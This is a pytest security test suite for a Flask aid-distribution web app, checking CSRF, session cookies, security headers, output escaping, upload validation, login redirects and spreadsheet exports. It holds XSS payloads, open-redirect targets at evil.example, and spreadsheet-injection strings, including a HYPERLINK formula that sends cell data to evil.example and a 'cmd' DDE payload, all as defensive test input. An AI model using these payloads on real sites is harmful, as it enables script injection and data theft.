"""Web security: CSRF on every form post, the session cookie, a new session at login, security
headers on every response, stored attack text escaped everywhere, uploads checked by content."""

from __future__ import annotations

import io
from typing import Any
from urllib.parse import urlsplit

import pytest
from flask import Flask
from sqlalchemy import select

from tests.web.site.test_access_matrix import (
    MATRIX,
    ROLES,
    World,
    _request,
    _url,
    build_world,
    routes,
)
from web import create_app
from web.extensions import db
from web.models import Allocation, HelpRequest, Household, Need, Offer, Organization, User
from web.services.uploads import UploadError
from web.views.uploaded import upload_folder

PASSWORD = "demo-{}-2026"


def login(client: Any, username: str) -> Any:
    return client.post("/login", data={"username": username, "password": PASSWORD.format(username)})


# ---------------------------------------------------------------------------------------------
# CSRF


def test_every_form_post_without_a_csrf_token_is_refused(demo_app: Flask) -> None:
    """Every POST route outside the token-authenticated API, as a role that may use it: 400."""
    with demo_app.app_context():
        world = build_world()
    demo_app.config["WTF_CSRF_ENABLED"] = True
    client = demo_app.test_client()
    tried, wrong = 0, []
    for rule, method in routes(demo_app):
        if method == "GET" or rule.rule.startswith("/api/"):
            continue
        expected = MATRIX[(rule.endpoint, method)]
        role = next((r for r in ROLES if expected[r].startswith("ok")), "anon")
        values = {k: v[0] for k, v in world.ids[role].items()}
        url = _url(rule, values)
        response = _request(client, world, role, method, url, rule.endpoint)
        tried += 1
        if response.status_code != 400:
            wrong.append(f"{method} {url} as {role}: {response.status_code}")
    assert tried >= 40
    assert not wrong, "accepted without a CSRF token:\n" + "\n".join(wrong)


def test_the_api_ignores_session_cookies_so_it_needs_no_csrf_token(demo_app: Flask) -> None:
    """The API is exempt from CSRF because only a bearer token signs in there."""
    client = demo_app.test_client()
    login(client, "donor")
    assert client.get("/donor/offers").status_code == 200  # the cookie is valid for pages
    assert client.get("/api/v1/me").status_code == 401
    assert client.post("/api/v1/offers", json={"title": "x"}).status_code == 401


def test_the_login_form_carries_a_token_that_works(demo_app: Flask) -> None:
    demo_app.config["WTF_CSRF_ENABLED"] = True
    client = demo_app.test_client()
    page = client.get("/login").get_data(as_text=True)
    assert 'name="csrf_token"' in page
    token = page.split('name="csrf_token"', 1)[1].split('value="', 1)[1].split('"', 1)[0]
    data = {"username": "admin", "password": PASSWORD.format("admin")}
    assert client.post("/login", data=data).status_code == 400
    assert client.post("/login", data={**data, "csrf_token": token}).status_code == 302


# ---------------------------------------------------------------------------------------------
# The session cookie


def _session_cookie(response: Any) -> str:
    cookies = [c for c in response.headers.getlist("Set-Cookie") if "session=" in c]
    assert cookies, f"no session cookie in {response.headers.getlist('Set-Cookie')}"
    return cookies[-1]


def test_session_cookie_is_httponly_and_lax_over_http(demo_app: Flask) -> None:
    cookie = _session_cookie(login(demo_app.test_client(), "admin"))
    assert cookie.startswith("session=")
    assert "HttpOnly" in cookie and "SameSite=Lax" in cookie
    assert "Secure" not in cookie  # plain HTTP (development): a Secure cookie would be dropped


def _app_like(demo_app: Flask, **config: Any) -> Flask:
    return create_app(
        {
            "SQLALCHEMY_DATABASE_URI": demo_app.config["SQLALCHEMY_DATABASE_URI"],
            "SECRET_KEY": "test-secret",
            "TESTING": True,
            "WTF_CSRF_ENABLED": False,
            **config,
        }
    )


def test_over_https_the_cookie_is_secure_and_host_prefixed(demo_app: Flask) -> None:
    app = _app_like(demo_app, DUIJIE_HTTPS=True)
    client = app.test_client()
    cookie = _session_cookie(login(client, "admin"))
    assert cookie.startswith("__Host-session=")
    assert "Secure" in cookie and "HttpOnly" in cookie and "SameSite=Lax" in cookie
    assert "Path=/" in cookie and "Domain" not in cookie
    # The prefixed cookie is the one read back: the admin stays signed in.
    assert client.get("/admin/week").status_code == 200
    with app.app_context():
        db.engine.dispose()


def test_behind_a_trusted_proxy_x_forwarded_proto_decides(demo_app: Flask) -> None:
    app = _app_like(demo_app, DUIJIE_TRUSTED_PROXIES=1)
    https = {"X-Forwarded-Proto": "https", "X-Forwarded-For": "203.0.113.9"}
    client = app.test_client()
    data = {"username": "admin", "password": PASSWORD.format("admin")}
    secure = _session_cookie(client.post("/login", data=data, headers=https))
    assert secure.startswith("__Host-session=") and "Secure" in secure
    assert "Strict-Transport-Security" in client.get("/", headers=https).headers
    plain = _session_cookie(app.test_client().post("/login", data=data))
    assert plain.startswith("session=") and "Secure" not in plain
    # Without a trusted proxy the header is a client's claim and changes nothing.
    untrusted = _session_cookie(demo_app.test_client().post("/login", data=data, headers=https))
    assert untrusted.startswith("session=") and "Secure" not in untrusted
    with app.app_context():
        db.engine.dispose()


def test_login_starts_a_new_session(demo_app: Flask) -> None:
    client = demo_app.test_client()
    with client.session_transaction() as session:
        session["planted"] = "by an attacker"
        session["_user_id"] = "999:1"
    login(client, "village")
    with client.session_transaction() as session:
        assert "planted" not in session
        assert session["_user_id"] != "999:1"


def test_logout_ends_the_users_other_sessions(demo_app: Flask) -> None:
    phone, laptop = demo_app.test_client(), demo_app.test_client()
    login(phone, "donor")
    login(laptop, "donor")
    assert laptop.get("/donor/offers").status_code == 200
    phone.post("/logout")
    assert "/login" in laptop.get("/donor/offers").headers.get("Location", "")


def test_a_password_change_ends_the_other_sessions_but_not_this_one(demo_app: Flask) -> None:
    phone, laptop = demo_app.test_client(), demo_app.test_client()
    login(phone, "donor")
    login(laptop, "donor")
    new = "a-brand-new-pass-2026"
    data = {"pw-current": PASSWORD.format("donor"), "pw-new": new, "pw-confirm": new}
    phone.post("/account/password", data=data)
    assert phone.get("/donor/offers").status_code == 200  # this browser stays signed in
    assert "/login" in laptop.get("/donor/offers").headers.get("Location", "")
    fresh = demo_app.test_client()
    fresh.post("/login", data={"username": "donor", "password": new})
    assert fresh.get("/donor/offers").status_code == 200


# ---------------------------------------------------------------------------------------------
# Headers on every response


def _check_headers(response: Any, where: str) -> list[str]:
    problems = []
    csp = response.headers.get("Content-Security-Policy", "")
    if "frame-ancestors 'none'" not in csp or "script-src 'self'" not in csp:
        problems.append(f"{where}: CSP {csp!r}")
    if "unsafe-inline" in csp or "unsafe-eval" in csp:
        problems.append(f"{where}: CSP allows inline code")
    if response.headers.get("X-Content-Type-Options") != "nosniff":
        problems.append(f"{where}: no nosniff")
    if response.headers.get("X-Frame-Options") != "DENY":
        problems.append(f"{where}: no X-Frame-Options")
    if response.headers.get("Referrer-Policy") not in ("same-origin", "no-referrer"):
        problems.append(f"{where}: referrer policy {response.headers.get('Referrer-Policy')}")
    return problems


def test_security_headers_on_every_route(demo_app: Flask) -> None:
    with demo_app.app_context():
        world = build_world()
    client = demo_app.test_client()
    problems: list[str] = []
    tried = 0
    for rule, method in routes(demo_app):
        expected = MATRIX[(rule.endpoint, method)]
        for role in ("anon", next((r for r in ROLES if expected[r].startswith("ok")), "anon")):
            url = _url(rule, {k: v[0] for k, v in world.ids[role].items()})
            response = _request(client, world, role, method, url, rule.endpoint)
            tried += 1
            problems += _check_headers(response, f"{method} {url} as {role}")
    for url in ("/no/such/page", "/api/v1/no-such"):
        problems += _check_headers(client.get(url), url)
    assert tried > 150
    assert not problems, "\n".join(problems)


# ---------------------------------------------------------------------------------------------
# Stored attack text

PAYLOADS = (
    '<script>alert("xss1")</script>',
    '"><img src=x onerror=alert(2)>',
    "'><svg/onload=alert(3)>",
    "javascript:alert(4)",
    "</textarea><script>alert(5)</script>",
)
DANGEROUS = ("<script>alert", "<img src=x onerror", "<svg/onload", "</textarea><script")
UNICODE = "\u202e\u200b𠀀🙂 ؀ 乡村振兴"


def _plant(world: World) -> None:
    """Attack text in every free-text field people type: needs, offers, notes, names."""
    p = PAYLOADS
    for need in db.session.scalars(select(Need).order_by(Need.id).limit(40)):
        need.title = f"{p[0]}{p[1]}"[:200]
        need.description = f"{p[2]} {p[3]} {p[4]} {UNICODE} " + "长" * 3900
        need.evidence = p[1]
        need.verification_note = p[0]
    for offer in db.session.scalars(select(Offer).order_by(Offer.id).limit(40)):
        offer.title = f"{p[1]}{p[0]}"[:200]
        offer.description = f"{p[4]} {p[3]} {UNICODE}"
    for organization in db.session.scalars(select(Organization)):
        organization.name = p[0][:128]
        organization.contact_name = p[1][:64]
    for user in db.session.scalars(select(User)):
        user.display_name = p[2][:64]
    for household in db.session.scalars(select(Household)):
        household.display_name = p[1][:32]
    for allocation in db.session.scalars(select(Allocation)):
        allocation.receipt_note = p[0]
        allocation.problem_note = p[4]
    for request in db.session.scalars(select(HelpRequest)):
        request.what = f"{p[0]} {p[4]}"
        request.decline_reason = p[1]
    db.session.commit()


def test_stored_attack_text_is_escaped_everywhere(demo_app: Flask) -> None:
    with demo_app.app_context():
        world = build_world()
        _plant(world)
    client = demo_app.test_client()
    problems: list[str] = []
    escaped_seen = 0
    pages = 0
    for rule, method in routes(demo_app):
        if method != "GET" or rule.rule.startswith("/static"):
            continue
        expected = MATRIX[(rule.endpoint, method)]
        for role in ROLES:
            if not expected[role].startswith("ok"):
                continue
            url = _url(rule, {k: v[0] for k, v in world.ids[role].items()})
            response = _request(client, world, role, method, url, rule.endpoint)
            if response.status_code >= 500:
                problems.append(f"{url} as {role}: {response.status_code}")
                continue
            if not response.mimetype.startswith("text/html"):
                continue
            body = response.get_data(as_text=True)
            pages += 1
            problems += [f"{url} as {role}: raw {d!r}" for d in DANGEROUS if d in body]
            if 'href="javascript:' in body.lower() or 'src="javascript:' in body.lower():
                problems.append(f"{url} as {role}: javascript: URL in a link")
            escaped_seen += body.count("&lt;script&gt;alert")
    assert pages > 40
    assert escaped_seen > 10, "the planted text showed nowhere: the test would prove nothing"
    assert not problems, "\n".join(problems)


def test_attack_text_typed_into_forms_comes_back_escaped(demo_app: Flask) -> None:
    client = demo_app.test_client()
    login(client, "village")
    response = client.post(
        "/village/needs/new",
        data={
            "category": "goods",
            "item": "goods.living.quilt",
            "checklist_item": "",
            "title": PAYLOADS[0],
            "description": PAYLOADS[4] + UNICODE,
            "quantity": "3",
            "urgency": "3",
            "confirm_duplicate": "y",
        },
        follow_redirects=True,
    )
    body = response.get_data(as_text=True)
    assert response.status_code == 200
    assert "&lt;script&gt;alert" in body
    assert not any(d in body for d in DANGEROUS)
    with demo_app.app_context():
        stored = db.session.scalars(select(Need).where(Need.title.contains("xss1"))).one()
        assert stored.title == PAYLOADS[0]  # kept as typed, escaped only when shown


# ---------------------------------------------------------------------------------------------
# Uploads

HTML = b"<!DOCTYPE html><html><script>alert(document.cookie)</script></html>"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'


@pytest.mark.parametrize("content", [HTML, SVG, b"GIF89a" + HTML, b"%PDF-1.4"])
def test_a_renamed_file_is_not_taken_for_a_photo(app: Flask, content: bytes) -> None:
    with app.app_context(), pytest.raises(UploadError, match="not a JPEG, PNG or WebP"):
        upload_folder().save_photo(io.BytesIO(content), "receipt")


def test_a_renamed_html_file_is_refused_by_the_import_page(demo_app: Flask) -> None:
    client = demo_app.test_client()
    login(client, "village")
    with demo_app.app_context():
        before = db.session.query(Need).count()
    for name in ("needs.xlsx", "needs.csv"):
        response = client.post(
            "/import/needs",
            data={"file": (io.BytesIO(HTML), name)},
            content_type="multipart/form-data",
        )
        assert response.status_code in (200, 400, 422)
        assert "<script>alert(document.cookie)" not in response.get_data(as_text=True)
    with demo_app.app_context():
        assert db.session.query(Need).count() == before


# ---------------------------------------------------------------------------------------------
# The `next` parameter after sign-in

OFF_SITE = (
    "//evil.example",
    "///evil.example",
    "https://evil.example",
    "/\\evil.example",
    "\\\\evil.example",
    "/\t/evil.example",
    "/\n/evil.example",
    " //evil.example",
    "javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "https:evil.example",
)


def test_next_after_login_never_leads_off_site(demo_app: Flask) -> None:
    client = demo_app.test_client()
    data = {"username": "admin", "password": PASSWORD.format("admin")}
    for target in OFF_SITE:
        response = client.post("/login", query_string={"next": target}, data=data)
        location = response.headers.get("Location", "")
        assert response.status_code == 302, target
        assert location.startswith("/") and not location.startswith("//"), (target, location)
        assert urlsplit(location).netloc == "" and urlsplit(location).scheme == ""
        assert "\\" not in location and "\t" not in location and "\n" not in location
    kept = client.post("/login", query_string={"next": "/admin/week?tab=1"}, data=data)
    assert kept.headers["Location"] == "/admin/week?tab=1"  # a path on this site is kept


# ---------------------------------------------------------------------------------------------
# Spreadsheet exports: text people typed never becomes a formula in Excel

FORMULAS = ('=HYPERLINK("http://evil.example/?"&A1,"点此")', "+1+cmd|' /C calc'!A0", "@SUM(1+1)")


def test_exports_never_turn_typed_text_into_formulas(demo_app: Flask) -> None:
    from openpyxl import load_workbook

    with demo_app.app_context():
        build_world()  # two pledges, so the ledger has rows
        for offer in db.session.scalars(select(Offer)):
            offer.title = FORMULAS[0]
        for need in db.session.scalars(select(Need)):
            need.title = FORMULAS[1]
        for allocation in db.session.scalars(select(Allocation)):
            allocation.problem_note = FORMULAS[2]
        db.session.commit()
    client = demo_app.test_client()
    login(client, "admin")
    sheets = {
        "/ledger.xlsx": client.get("/ledger.xlsx").data,
        "/import/needs/current.xlsx": client.get("/import/needs/current.xlsx").data,
    }
    seen = 0
    for url, data in sheets.items():
        workbook = load_workbook(io.BytesIO(data))
        for sheet in workbook.worksheets:
            for row in sheet.iter_rows():
                for cell in row:
                    assert cell.data_type != "f", f"{url} {cell.coordinate}: formula {cell.value}"
                    if isinstance(cell.value, str) and "evil.example" in cell.value:
                        seen += 1
    text = client.get("/ledger.csv").data.decode("utf-8-sig")
    for line in text.splitlines():
        for cell in line.split(","):
            assert not cell.strip('"').startswith(("=", "+", "@")), f"/ledger.csv: {cell}"
    assert seen and "evil.example" in text, "the planted text is missing: the test proves nothing"
